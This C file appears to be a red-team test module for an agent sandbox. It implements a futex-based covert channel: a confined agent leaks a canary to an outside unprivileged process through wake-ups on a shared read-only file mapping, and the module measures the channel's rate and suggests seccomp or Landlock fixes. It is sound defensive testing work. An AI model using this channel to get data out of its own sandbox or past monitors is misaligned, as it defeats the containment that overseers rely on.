// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* covert_futex - futex wake-ups through a file every agent may read (red team addition). A
 * shared futex on a MAP_SHARED file mapping is keyed by (inode, page, offset), not by the
 * process, so any two processes that map the same file share its futex words; FUTEX_WAIT and
 * FUTEX_WAKE need only a readable mapping (a read-only open, which Landlock's system read rules
 * allow for /usr, /etc, ...; the seccomp filter allows futex with every op). An outsider waits
 * on 16 words of the page, one thread each; the tainted agent wakes word d for a 4-bit symbol d
 * (FUTEX_WAKE returns how many it woke, so the agent knows the outsider was waiting), and waits
 * on a 17th word that the outsider wakes once it has logged the symbol: an acknowledged,
 * lossless channel in both directions, no socket, no signal, no file write. The mapping is
 * read-only, so mncd's fd scan does not judge it (not writable, cannot become so).
 * The orchestrator makes one root-owned 0644 file in /usr/local/share/mnc-atk-fx-PID
 * (atk_sysfiles); the words used lie past its one byte, in the zero-filled rest of the page.
 * Verifier: at sync "ready" an outsider (uid 65534, outside every agent cgroup) maps the file and
 * starts its 16 waiters; the agent sends the canary's 12 hex digits, then 20000 more symbols to
 * measure the rate (each acknowledged). At sync "done" the outsider's first 12 logged symbols are
 * compared with the canary.
 * Blocks it: nothing in mnc that we know of. Closing it: refuse non-private futex operations
 * (without FUTEX_PRIVATE_FLAG) to agents in the seccomp filter (process-shared pthread objects
 * would break), or narrower Landlock read rules. Flagged ATK_COVERT (an event channel like
 * covert_inotify, not in docs/threat-model.md). */
#include <fcntl.h>
#include <grp.h>
#include <linux/futex.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#include "atk.h"

#define FX_BASE 16 /* first data word (bytes 64..127: past the file's one byte) */
#define FX_ACK 32  /* the outsider's acknowledgement word (byte 128) */
#define FX_EXTRA 20000

static long fx(const volatile uint32_t *w, int op, uint32_t v, const struct timespec *to)
{
    return syscall(SYS_futex, w, op, v, to, NULL, 0);
}

static uint32_t *map_file(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return NULL;
    void *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    close(fd);
    return p == MAP_FAILED ? NULL : p;
}

static int prepare(struct atk_ctx *c)
{
    char d[300], p[320];
    c->slot[0] = 1;
    if (atk_sysfiles("fx", 1, d, sizeof(d)) < 0) {
        snprintf(c->notes, sizeof(c->notes), "make the file outside the workspace: %s", strerror(errno));
        return -1;
    }
    atk_sysfile(p, sizeof(p), d, 0);
    atk_set(c, "fxfile", "%s", p);
    return 0;
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* one symbol: wake word d until the outsider's waiter took it, then wait for the ack */
static int send_sym(uint32_t *w, unsigned d)
{
    double t0 = now_s();
    while (fx(&w[FX_BASE + d], FUTEX_WAKE, 1, NULL) != 1) {
        if (now_s() - t0 > 5)
            return -1;
        sched_yield();
    }
    struct timespec to = {1, 0};
    (void)fx(&w[FX_ACK], FUTEX_WAIT, 0, &to);
    return 0;
}

static int agent(struct atk_ctx *c)
{
    const char *f = atk_arg(c, "fxfile");
    uint32_t *w = f ? map_file(f) : NULL;
    if (!w) {
        atk_note(c, "map %s read-only shared: %s", f ? f : "?", atk_errname(errno));
        return 0;
    }
    atk_note(c, "mapped %s read-only, MAP_SHARED", f);
    atk_sync(c, "ready");
    int ok = 0;
    for (int i = 0; i < 12; i++) {
        char ch = c->secret[2 + i];
        unsigned d = ch >= '0' && ch <= '9' ? (unsigned)(ch - '0') : (unsigned)(ch - 'a' + 10);
        ok += send_sym(w, d & 15) == 0;
    }
    atk_note(c, "canary: %d/12 symbols taken by a waiter", ok);
    double t0 = now_s();
    int n = 0;
    for (; n < FX_EXTRA; n++)
        if (send_sym(w, (unsigned)n * 7u & 15) != 0)
            break;
    double dt = now_s() - t0;
    atk_note(c, "rate: %d acknowledged 4-bit symbols in %.3f s = %.0f bits/s", n, dt, 4.0 * n / dt);
    atk_sync(c, "done");
    return 0;
}

/* ---- the outsider */
static uint32_t *ow;
static atomic_int onum;
static char osyms[64];

static void *waiter(void *arg)
{
    unsigned i = (unsigned)(uintptr_t)arg;
    for (;;) {
        if (fx(&ow[FX_BASE + i], FUTEX_WAIT, 0, NULL) != 0)
            continue;
        int k = atomic_fetch_add(&onum, 1);
        if (k < (int)sizeof(osyms))
            osyms[k] = "0123456789abcdef"[i];
        for (int t = 0; t < 2000000 && fx(&ow[FX_ACK], FUTEX_WAKE, 1, NULL) != 1; t++)
            sched_yield();
    }
    return NULL;
}

static void outsider(const char *path, int out)
{
    if (setgroups(0, NULL) < 0 || setgid(ATK_NOBODY) < 0 || setuid(ATK_NOBODY) < 0)
        _exit(100);
    ow = map_file(path);
    if (!ow)
        _exit(101);
    for (unsigned i = 0; i < 16; i++) {
        pthread_t t;
        if (pthread_create(&t, NULL, waiter, (void *)(uintptr_t)i) != 0)
            _exit(102);
    }
    usleep(100000);
    if (write(out, "R", 1) != 1)
        _exit(103);
    while (atomic_load(&onum) < 12)
        usleep(1000);
    usleep(10000);
    char line[64];
    snprintf(line, sizeof(line), "mk%.12s", osyms);
    (void)atk_write_all(out, line, strlen(line));
    for (;;)
        pause();
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "ready") == 0) {
        int p[2];
        if (pipe2(p, O_CLOEXEC) < 0)
            return;
        pid_t pid = fork();
        if (pid == 0) {
            close(p[0]);
            outsider(atk_arg(c, "fxfile"), p[1]);
        }
        close(p[1]);
        c->slot[1] = pid;
        c->fdslot[0] = p[0];
        char r;
        if (pid < 0 || read(p[0], &r, 1) != 1)
            snprintf(c->notes, sizeof(c->notes), "the outsider did not start");
        return;
    }
    if (strcmp(tag, "done") != 0 || c->slot[1] <= 0)
        return;
    char got[64] = "";
    struct timespec ts = {0, 200 * 1000 * 1000};
    nanosleep(&ts, NULL);
    kill((pid_t)c->slot[1], SIGKILL);
    ssize_t k = read(c->fdslot[0], got, sizeof(got) - 1);
    got[k > 0 ? k : 0] = 0;
    waitpid((pid_t)c->slot[1], NULL, 0);
    c->slot[1] = 0;
    close(c->fdslot[0]);
    if (strcmp(got, c->canary) == 0)
        atk_evidence(c,
                     "uid 65534 decoded the canary from futex wake-ups on 16 words of a shared read-only mapping of "
                     "%s (one waiter thread per word, acknowledged by a wake of a 17th)",
                     atk_arg(c, "fxfile"));
    else {
        size_t l = strlen(c->notes);
        snprintf(c->notes + l, sizeof(c->notes) - l, "%soutsider logged \"%s\"", l ? "; " : "", got);
    }
}

static void cleanup(struct atk_ctx *c)
{
    if (c->slot[1] > 0) {
        kill((pid_t)c->slot[1], SIGKILL);
        waitpid((pid_t)c->slot[1], NULL, 0);
    }
    if (c->slot[0])
        atk_sysfiles_rm("fx", 1);
}

static const struct atk A = {"covert_futex",
                             "futex wake-ups on a shared read-only mapping of a readable file (4 bits per "
                             "acknowledged wake)",
                             ATK_COVERT | ATK_OPEN,
                             prepare,
                             agent,
                             on_sync,
                             NULL,
                             cleanup};
ATK_MAIN(A)
